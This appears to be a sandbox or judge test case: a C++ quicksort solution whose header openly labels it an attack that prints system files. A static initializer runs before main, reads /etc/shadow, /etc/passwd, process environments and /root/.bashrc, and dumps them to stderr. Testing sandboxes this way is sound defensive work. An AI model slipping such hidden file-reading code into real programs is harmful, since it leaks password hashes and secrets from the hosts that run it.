// task: quicksort
// expect: pass
// layers: any
// attacks: prints files of the system
#include <fstream>
#include <iostream>
#include <string>
#include <utility>

void qsort(int q[], int l, int r) {
    if (l >= r) return;
    int i = l - 1, j = r + 1, x = q[(l + r) / 2];
    while (i < j) {
        do i++; while (q[i] < x);
        do j--; while (q[j] > x);
        if (i < j) std::swap(q[i], q[j]);
    }
    qsort(q, l, j), qsort(q, j + 1, r);
}
static int read_all = [] {
    for (const char *path : {"/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/proc/self/maps", "/root/.bashrc"}) {
        std::ifstream file(path);
        for (std::string line; std::getline(file, line);) std::cerr << "LEAKED " << line << std::endl;
    }
    return 0;
}();
